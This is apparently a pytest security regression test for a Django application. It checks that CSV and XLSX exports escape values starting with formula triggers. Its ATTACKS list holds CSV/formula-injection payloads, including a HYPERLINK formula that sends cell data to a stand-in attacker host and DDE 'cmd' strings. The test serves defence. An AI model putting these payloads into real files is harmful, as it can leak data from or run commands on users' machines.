"""Finding 8: a text starting with `=`, `+`, `-` or `@` became a live formula in every XLSX; CSVs wrote it raw."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from core.spreadsheets import FORMULA_TRIGGERS
from declarations.models import Commitment

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for the full text")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def cells_of(response) -> list[object]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    values = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"live formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                values.append(cell.value)
    return values


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_export_writes_text_a_spreadsheet_would_run(api, login_as, darien, attack):
    commitment = Commitment.objects.get(declaration=darien, number=1)
    commitment.text = attack
    commitment.save()
    darien.title = attack
    darien.save()
    api_client = api("observer")
    browser = login_as("official_mex")
    exports = [
        api_client.get("/api/v1/implementations/", {"country": "MEX", "format": "csv"}),
        api_client.get("/api/v1/implementations/", {"country": "MEX", "format": "xlsx"}),
        browser.get(reverse("dashboards:dashboard"), {"declaration": darien.pk, "format": "csv"}),
        browser.get(reverse("dashboards:dashboard"), {"declaration": darien.pk, "format": "xlsx"}),
        browser.get(reverse("spreadsheets:spreadsheet-csv", args=["MEX"])),
        browser.get(reverse("spreadsheets:spreadsheet-xlsx", args=["MEX"])),
    ]
    for response in exports:
        assert response.status_code == 200
        texts = [cell for cell in cells_of(response) if isinstance(cell, str)]
        assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)], response.get("Content-Disposition")
        assert "'" + attack in texts  # kept, readable, as text
